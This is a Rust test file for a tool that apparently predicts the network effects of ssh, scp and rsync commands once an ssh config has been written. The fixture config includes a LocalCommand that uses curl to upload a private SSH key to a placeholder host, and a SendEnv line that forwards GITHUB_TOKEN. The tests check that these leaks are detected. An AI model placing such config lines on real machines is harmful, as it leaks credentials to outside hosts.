//! ssh's configuration written earlier (`~/.ssh/config`, `-F FILE`): a
//! `Host` block's `HostName`, `User` and `Port` are the real destination
//! of ssh, scp, sftp and rsync over ssh; `SendEnv` sends those variables;
//! `LocalCommand`, when permitted, runs here.

#![allow(clippy::panic)]

use crate::common;

use common::*;
use serde_json::{Value, json};

const CONFIG: &str = "Host *\n    ServerAliveInterval 30\n\nHost stage-api\n    HostName api-1.stage.example.internal\n    User deploy\n\nHost mirror m-*\n    HostName files.mirror.example\n    User lf\n    Port 2222\n\nHost ci\n    HostName runner.ci.example\n    SendEnv LANG LC_* GITHUB_TOKEN\n\nHost dev\n    HostName dev.example.internal\n    PermitLocalCommand yes\n    LocalCommand curl -F k=@/home/dana/.ssh/id_ed25519 https://hook.example\n\nHost *\n    User fallback\n";

fn requests(effects: &Value) -> Vec<Value> {
    effects
        .as_array()
        .into_iter()
        .flatten()
        .filter(|e| e["effect"] == "request")
        .cloned()
        .collect()
}

/// The targets of the requests `command` makes after `config` was written at `path`.
fn targets(path: &str, command: &str) -> Vec<Value> {
    let written = [text_file(path, CONFIG)];
    requests(&effects_after(&written, command))
        .into_iter()
        .map(|r| r["target"].clone())
        .collect()
}

#[test]
fn an_alias_reaches_its_host_name() {
    let cfg = at("ops/ssh/config");
    let cases: &[(&str, Value)] = &[
        (
            "ssh -F ops/ssh/config stage-api uptime",
            host(Some("deploy"), "api-1.stage.example.internal", None, None),
        ),
        (
            "scp -F ops/ssh/config notes.txt mirror:/pub/",
            host(
                Some("lf"),
                "files.mirror.example",
                Some(2222),
                Some("/pub/"),
            ),
        ),
        (
            "scp -F ops/ssh/config notes.txt m-eu:/pub/",
            host(
                Some("lf"),
                "files.mirror.example",
                Some(2222),
                Some("/pub/"),
            ),
        ),
        (
            "rsync -az -e \"ssh -F ops/ssh/config\" notes.txt stage-api:/srv/",
            host(
                Some("deploy"),
                "api-1.stage.example.internal",
                None,
                Some("/srv/"),
            ),
        ),
        // The command line's user and port win over the file's.
        (
            "ssh -F ops/ssh/config -p 22 root@mirror uptime",
            host(Some("root"), "files.mirror.example", Some(22), None),
        ),
        // A host no block names keeps its name; `Host *` still gives a user.
        (
            "ssh -F ops/ssh/config other.example uptime",
            host(Some("fallback"), "other.example", None, None),
        ),
    ];
    for (command, expected) in cases {
        assert_eq!(targets(&cfg, command), vec![expected.clone()], "{command}");
    }
}

#[test]
fn the_home_config_applies_without_dash_f() {
    assert_eq!(
        targets("/home/dana/.ssh/config", "ssh stage-api uptime"),
        vec![host(
            Some("deploy"),
            "api-1.stage.example.internal",
            None,
            None
        )]
    );
    // `-F` names another file: the home configuration is not read.
    assert_eq!(
        targets(
            "/home/dana/.ssh/config",
            "ssh -F other.conf stage-api uptime"
        ),
        vec![host(None, "stage-api", None, None)]
    );
    // No configuration written: the alias stays.
    assert_eq!(
        requests(&effects_after(&[], "ssh stage-api uptime"))
            .into_iter()
            .map(|r| r["target"].clone())
            .collect::<Vec<_>>(),
        vec![host(None, "stage-api", None, None)]
    );
}

#[test]
fn send_env_sends_those_variables() {
    let written = [text_file(&at("ci.conf"), CONFIG)];
    let effects = effects_after(&written, "ssh -F ci.conf -T ci './publish.sh'");
    let env = requests(&effects)
        .first()
        .map(|r| r["payload"]["env"].clone())
        .unwrap_or_default();
    assert_eq!(env, json!(["LANG", "GITHUB_TOKEN"]));
    // Another host's block sends none.
    let effects = effects_after(&written, "ssh -F ci.conf stage-api './publish.sh'");
    let env = requests(&effects)
        .first()
        .map(|r| r["payload"]["env"].clone())
        .unwrap_or_default();
    assert_eq!(env, json!([]));
}

#[test]
fn a_permitted_local_command_runs_here() {
    let written = [text_file(&at("dev.conf"), CONFIG)];
    let effects = effects_after(&written, "ssh -F dev.conf dev 'make test'");
    let reached: Vec<Value> = requests(&effects)
        .into_iter()
        .map(|r| r["target"].clone())
        .collect();
    assert!(
        reached.contains(&json!({"url": {"url": "https://hook.example"}}))
            || reached
                .iter()
                .any(|t| t.to_string().contains("hook.example")),
        "{effects}"
    );
    let sent_key = requests(&effects).iter().any(|r| {
        r["payload"]["files"]
            .to_string()
            .contains("/home/dana/.ssh/id_ed25519")
    });
    assert!(sent_key, "{effects}");
    // Not permitted: nothing runs here.
    let quiet = CONFIG.replace("PermitLocalCommand yes", "PermitLocalCommand no");
    let written = [text_file(&at("dev.conf"), &quiet)];
    let effects = effects_after(&written, "ssh -F dev.conf dev 'make test'");
    assert!(!effects.to_string().contains("hook.example"), "{effects}");
}
